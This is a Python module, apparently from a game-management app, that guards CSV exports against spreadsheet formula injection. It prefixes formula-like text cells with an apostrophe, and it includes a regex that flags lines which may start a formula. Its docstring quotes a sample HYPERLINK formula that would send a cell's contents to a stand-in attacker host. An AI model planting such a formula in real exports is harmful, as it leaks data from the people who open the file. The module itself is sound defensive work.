"""CSV exports that a spreadsheet opens as data, never as a formula (OWASP, "CSV Injection"; issue 32).

A cell of text that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is written with a `'` before it, so that
Excel, LibreOffice and Google Sheets show the text rather than run it: a late correction's reason
`=HYPERLINK("http://evil.example/?"&A1,"Details")` goes into the Master Game Report as the text
`'=HYPERLINK(...)`. Numbers stay numbers: a value that is not text (Decimal, int, date) is written as it is, and so is a
text that is a plain decimal number ("-5.00", "+3"), which a spreadsheet reads as the number. Python's csv module
quotes the cells that need it (a comma, a quote, a line break).

Every CSV the app writes goes through `SafeWriter` (apps.core.views.csv_response, the streamed rake export, the
compliance matrix command).
"""
from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import TYPE_CHECKING, Any

from apps.core.money import CENT

if TYPE_CHECKING:
    from _typeshed import SupportsWrite

#: The first characters that make a spreadsheet read a cell as a formula (OWASP's list).
FORMULA_START = frozenset("=+-@\t\r")
_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?", re.ASCII)
#: A cell of a written CSV line that may begin like a formula: at the start of a line or after the delimiter, quoted
#: or not. It also matches inside a quoted cell (a comma then `-`): that only sends the rows the slow way.
_MAYBE_FORMULA = re.compile(r'(?:^|,)"?[=+\-@\t\r]', re.MULTILINE)


def neutralised(value: object) -> object:
    """`value` as a CSV cell may hold it: a text beginning like a formula gets a `'` in front; anything else as it is.

    >>> neutralised('=HYPERLINK("http://x","y")')
    '\\'=HYPERLINK("http://x","y")'
    >>> neutralised("-5.00"), neutralised("Ana")
    ('-5.00', 'Ana')
    """
    if isinstance(value, str) and value[:1] in FORMULA_START and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def amount_cell(value: Decimal | int | str | None) -> str:
    """An amount of Decimal dollars as a CSV cell: a plain number with two decimals, as a spreadsheet reads it
    ("45.00", "-15.00", "2675.00"; no currency sign, no grouping); "" for None. Raises decimal.InvalidOperation on
    a value that is not a number.

    >>> amount_cell(Decimal("45")), amount_cell(-15), amount_cell(None)
    ('45.00', '-15.00', '')
    """
    if value is None:
        return ""
    return f"{Decimal(value).quantize(CENT):f}"


class SafeWriter:
    """csv.writer over `file` (its keyword arguments, e.g. lineterminator) whose every cell is `neutralised`."""

    def __init__(self, file: SupportsWrite[str], **kwargs: Any) -> None:
        self._csv = csv.writer(file, **kwargs)

    def writerow(self, row: Iterable[object]) -> Any:
        """Write one row; what the file's write() returned (the line, for a streamed response's echo)."""
        return self._csv.writerow([neutralised(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)

    def lines(self, rows: list[Iterable[object]]) -> str:
        """The text of `rows` for a file whose write() returns what it is given (a streamed response's echo): written
        as they are when no cell can begin like a formula (one scan of the text, so that a day's thousands of rows of
        numbers cost no check a cell), else each cell neutralised."""
        text = "".join(map(self._csv.writerow, rows))
        if _MAYBE_FORMULA.search(text):
            return "".join(map(self.writerow, rows))
        return text
